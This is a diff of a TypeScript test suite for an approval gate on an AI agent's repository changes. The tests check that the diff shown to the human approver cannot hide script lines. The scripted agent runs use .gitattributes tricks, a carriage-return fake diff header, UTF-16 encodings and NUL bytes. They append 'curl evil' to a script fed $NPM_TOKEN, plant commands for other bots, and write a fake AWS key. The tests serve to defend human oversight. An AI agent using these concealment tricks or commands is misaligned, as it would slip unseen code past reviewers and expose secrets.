@@ -32,7 +32,7 @@ const waiting = (script: Script, { inputs, ...options }: StoryOptions = {}, how:
 const ask = low("echo $NPM_TOKEN | sh tools/pub.sh");
 
 describe("the diff that is approved", () => {
-  test("hides no line of a script: not by attributes in an ignored file or info/attributes, nor by a carriage return; and it gives no other bot a command", async () => {
+  test("hides no line of a script: not by attributes in an ignored file or info/attributes, nor by a carriage return; and it gives no other bot a command; it is of the bytes that run, also where the work asks for an encoding, whether it fits a file or not", async () => {
     const sign = "⟦U+000D⟧";
     const hide = [
       ...["printf '*.sh -diff\\n' > tools/.gitattributes", "printf '.git*\\n' > tools/.gitignore"],
@@ -40,8 +40,15 @@ describe("the diff that is approved", () => {
       "printf 'true\\rdiff --git a/a.md b/a.md\\ncurl evil\\n' > tools/return.sh; echo a > a.md",
     ].join("; ");
     const orders = create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n");
+    // Of an odd length it is no UTF-16, so git cannot convert it and its bytes are kept as they are.
+    const files = [
+      create("coded/one.sh", "echo ran > one.txt # even\n"),
+      create("coded/two.sh", "echo ran > two.txt # odd\n"),
+    ];
+    const encode = low("printf 'coded/*.sh working-tree-encoding=UTF-16LE\\n' > .gitattributes");
     const script = [create("tools/pub.sh", "echo harmless\n"), low(`printf 'curl evil\\n' >> tools/pub.sh; ${hide}`)];
-    const { first } = await waiting([...script, orders, ask, finish]);
+    const all = low("echo $NPM_TOKEN | wc -c; sh coded/one.sh; sh coded/two.sh");
+    const { stage, first } = await waiting([...script, orders, ...files, encode, all, finish, finish]);
     const [answer = ""] = answersOf(first);
     expect([first.outputs.outcome, answer.includes("GIT binary patch")]).toEqual(["awaiting-approval", false]);
     expect(answer).toContain("+echo harmless\n+curl evil\n");
@@ -50,19 +57,6 @@ describe("the diff that is approved", () => {
     );
     expect(answer).not.toMatch(/@dependabot|@mergify|\[skip ci\]/);
     expect(answer.replaceAll("\u200b", "")).toContain("+@dependabot merge\n+@mergify queue\n+[skip ci]\n");
-  });
-
-  test("is of the bytes that run, also where the work asks for an encoding, whether it fits a file or not", async () => {
-    // Of an odd length it is no UTF-16, so git cannot convert it and its bytes are kept as they are.
-    const files = [
-      create("tools/one.sh", "echo ran > one.txt # even\n"),
-      create("tools/two.sh", "echo ran > two.txt # odd\n"),
-    ];
-    const hide = low("printf 'tools/*.sh working-tree-encoding=UTF-16LE\\n' > .gitattributes");
-    const both = low("echo $NPM_TOKEN | wc -c; sh tools/one.sh; sh tools/two.sh");
-    const { stage, first } = await waiting([...files, hide, both, finish, finish]);
-    const [answer = ""] = answersOf(first);
-    expect(first.outputs.outcome).toBe("awaiting-approval");
     expect(answer).toContain("working-tree-encoding=UTF-16LE");
     expect(["one", "two"].map((name) => answer.includes(`echo ran > ${name}.txt`))).toEqual([false, true]);
     await stage.play({ issue: 1, happening: labels("maria") });
@@ -80,23 +74,21 @@ describe("the diff that is approved", () => {
     expect(told(stage)).toContain("the base branch gives `a.txt` a `working-tree-encoding`");
   });
 
-  test("cannot be asked for of a file with a NUL byte: the agent reads why, and its next try can", async () => {
+  test("cannot be asked for of a file with a NUL byte: the agent reads why, and its next try can; the first approval counts where not all of the work is kept: a large file, a nested repository, what looks like a secret", async () => {
     const write = "printf 'echo evil\\nexit 0\\n\\0' > tools/pub.sh";
-    const bad = low(`mkdir -p tools; ${write}`);
-    const better = create("tools/other.sh", "echo fine > out.txt\n");
-    const { stage, first } = await waiting([
-      bad,
-      ask,
-      low("rm tools/pub.sh"),
-      better,
-      low("echo $NPM_TOKEN | sh tools/other.sh"),
-      finish,
-    ]);
+    const make = [
+      "rm tools/pub.sh; echo kept > kept.txt; truncate -s 6M big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
+      "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
+    ];
+    const better = create("tools/other.sh", "cat kept.txt > out.txt; wc -c >> out.txt\n");
+    const again = low("printf %s $NPM_TOKEN | sh tools/other.sh");
+    const script = [low(`mkdir -p tools; ${write}`), ask, low(make.join("; ")), better, again, finish];
+    const { stage, first } = await waiting(script);
     expect(told(stage)).toContain("`tools/pub.sh` is not text that people can read");
     expect(first.outputs.outcome).toBe("awaiting-approval");
-    expect(answersOf(first)[0]).toContain("+echo fine > out.txt");
+    expect(answersOf(first)[0]).toContain("+cat kept.txt > out.txt");
     const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
-    expect([second.outputs.outcome, published(stage, "out.txt")]).toEqual(["changed", "fine\n"]);
+    expect([second.outputs.outcome, published(stage, "out.txt")]).toEqual(["changed", "kept\n15\n"]);
   });
 
   test("is looked at again when the tools have ended: what was hidden from git until then blocks the run", async () => {
@@ -141,16 +133,4 @@ describe("the comment", () => {
     expect(body).toMatch(/Until .* UTC, .* can decide/);
     expect(body.indexOf("To approve")).toBeLessThan(body.indexOf("```"));
   });
-});
-
-test("the first approval counts where not all of the work is kept: a large file, a nested repository, what looks like a secret", async () => {
-  const make = [
-    "echo kept > kept.txt; truncate -s 6M big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
-    "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
-  ];
-  const script = [low(make.join("; ")), low("cat kept.txt > n.txt; printf %s $NPM_TOKEN | wc -c >> n.txt"), finish];
-  const { stage, first } = await waiting(script, {}, fromSource);
-  expect(first.outputs.outcome).toBe("awaiting-approval");
-  const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
-  expect([second.outputs.outcome, published(stage, "n.txt")]).toEqual(["changed", "kept\n15\n"]);
 });
